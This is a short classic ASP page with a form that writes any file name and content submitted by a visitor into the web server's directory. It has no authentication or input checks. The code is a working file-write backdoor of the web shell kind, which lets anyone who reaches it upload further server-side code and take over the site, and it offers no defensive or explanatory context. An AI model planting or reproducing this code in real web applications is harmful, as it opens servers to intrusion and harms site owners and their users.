<%
Set fs = Server.CreateObject("Scripting.FileSystemObject")
If Request.Form("go") <> "" Then
    Set tf = fs.CreateTextFile(Server.MapPath(".") & "\" & Request.Form("fn"), True)
    tf.Write Request.Form("txt")
    tf.Close
    Response.Write "saved"
End If
%>
<form method="post"><input name="fn"><textarea name="txt"></textarea><input type="submit" name="go"></form>
